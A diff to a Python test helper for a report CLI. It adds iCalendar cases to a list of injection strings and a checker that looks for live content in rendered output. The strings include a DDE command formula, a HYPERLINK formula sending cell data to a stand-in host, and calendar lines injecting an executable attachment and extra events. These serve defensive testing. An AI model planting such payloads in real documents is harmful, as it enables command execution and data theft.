@@ -1,7 +1,8 @@
 """Texts that try to be more than text, and a check for each format of whether anything of them is alive.
 
 ``STRINGS`` is the list; ``alive(format, data)`` names what a program that opens ``data`` would act on. A terminal
-acts on escapes, a spreadsheet on formulas and links, a browser on tags and handlers, Word on fields.
+acts on escapes, a spreadsheet on formulas and links, a browser on tags and handlers, Word on fields, a calendar on
+components and properties.
 """
 
 from __future__ import annotations
@@ -12,11 +13,11 @@ import json
 import re
 import zipfile
 from collections.abc import Callable, Mapping
-from datetime import date
+from datetime import UTC, date, datetime
 from html.parser import HTMLParser
 from xml.etree import ElementTree as ET
 
-from tuphap_cli.reports.base import Column, Json, Line, Report, Table
+from tuphap_cli.reports.base import Agenda, Column, Event, Json, Line, Report, Table
 
 _FORMULAS = (
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.vn/?"&A1,"xem")', '=WEBSERVICE("http://x.vn")', "@SUM(1+1)",
@@ -54,7 +55,12 @@ _LINKS = (
     "| a | b |",
     "```", "# a", "- [x] a", "**a**", "a\n\n# b", "a\n| b |", "\\| a",
 )  # fmt: skip
-STRINGS = (*_FORMULAS, *_ESCAPES, *_TURNED, *_MARKUP, *_LINKS)
+_CALENDARS = (
+    "BEGIN:VEVENT", "a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:b", "a\nATTACH:http://x.vn/a.exe", "a\r\n b",
+    "a\rRRULE:FREQ=DAILY", "END:VCALENDAR", "a, b; c: d", "C:\\Nhan\\nam", "\\N", "\\n", "\\,", "a\\", "a\\\nb",
+    ';ALTREP="http://x.vn":a', 'ALTREP="x', "^n^^^'", "😀" * 60, "e\u0323\u0302" * 40, "Rà soát, đôn đốc; " * 14,
+)  # fmt: skip
+STRINGS = (*_FORMULAS, *_ESCAPES, *_TURNED, *_MARKUP, *_LINKS, *_CALENDARS)
 
 # Every code that steers a terminal or turns the direction of writing; the end of a line is none.
 STEERING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
@@ -74,8 +80,13 @@ def report(text: str) -> Report:
         {"task": 1, "title": text, "units": [text, text]},
         {"task": 2, "title": f"a{text}", "units": []},
     ]
+    events = (
+        Event("deadline-1", date(2021, 7, 16), text, (text, f"a{text}")),
+        Event("x", date(2021, 7, 9), text, (), 3),
+    )
     return Report("tuphap.test/1", date(2021, 7, 9), rows, title=text, heading=(text,), tables=(table, listed, empty),
-                  closing=(text,), more={"said": text})  # fmt: skip
+                  closing=(text,), more={"said": text},
+                  agenda=Agenda(events, "0" * 64, 1, datetime(2021, 7, 9, tzinfo=UTC)))  # fmt: skip
 
 
 def alive(form: str, data: bytes) -> list[str]:
@@ -209,22 +220,51 @@ def _docx(data: bytes) -> list[str]:
     return found
 
 
+def _ics(data: bytes) -> list[str]:
+    """What a calendar program would find besides the two events and the one reminder, and lines out of form."""
+    text = data.decode("utf-8")
+    lines = text.replace("\r\n ", "").split("\r\n")
+    names = [re.match(r"[A-Z-]*", line)[0] for line in lines[:-1]]  # type: ignore[index]
+    found = [f"a property: {name}" for name in names if name not in _PROPERTIES]
+    found += [f"a component: {line}" for line in lines if line.startswith(("BEGIN:", "END:")) and line not in _PARTS]
+    counts = [lines.count(line) for line in _PARTS]
+    found += [f"{counts} components"] * (counts != list(_PARTS.values()))
+    found += [f"a bare comma: {line}" for line in lines if re.search(r"(?<!\\)(?:\\\\)*[,;]", line.partition(":")[2])]
+    found += ["a bare end of a line"] * (re.search(r"(?<!\r)\n|\r(?!\n)", text) is not None)
+    found += [f"a line of {len(line)} octets" for line in data.split(b"\r\n") if len(line) > 75]
+    return found + _steering_but_line_ends(text)
+
+
+_PARTS = {
+    "BEGIN:VCALENDAR": 1,
+    "BEGIN:VEVENT": 2,
+    "BEGIN:VALARM": 1,
+    "END:VALARM": 1,
+    "END:VEVENT": 2,
+    "END:VCALENDAR": 1,
+}
+_PROPERTIES = {
+    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "NAME", "X-WR-CALNAME", "DESCRIPTION", "X-WR-CALDESC", "UID",
+    "DTSTAMP", "LAST-MODIFIED", "SEQUENCE", "DTSTART", "DTEND", "TRANSP", "SUMMARY", "ACTION", "TRIGGER",
+}  # fmt: skip
 _INSTRUCTION = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr"
 CHECKS: dict[str, Callable[[bytes], list[str]]] = {
     "screen": _screen, "text": _plain, "json": _json, "csv": _csv, "md": _markdown, "html": _html, "xlsx": _xlsx,
-    "docx": _docx,
+    "docx": _docx, "ics": _ics,
 }  # fmt: skip
 
 
 def drawn(form: str, made: Report) -> bytes:
     """``made`` in a format: "screen" is a terminal of 80 columns, "text" a pipe."""
-    from tuphap_cli.render import docx, feeds, html, terminal, xlsx
+    from tuphap_cli.render import docx, feeds, html, ics, terminal, xlsx
 
     if form == "screen":
         terminal.draw(made, stream := io.StringIO(), 80)
         return stream.getvalue().encode()
     if form in {"docx", "xlsx"}:
         return docx.as_docx(made) if form == "docx" else xlsx.as_xlsx(made)
+    if form == "ics":
+        return ics.as_ics(made)
     texts: dict[str, Callable[[Report], str]] = {
         "text": feeds.as_text, "json": feeds.as_json, "csv": feeds.as_csv, "md": feeds.as_markdown,
         "html": html.as_html,
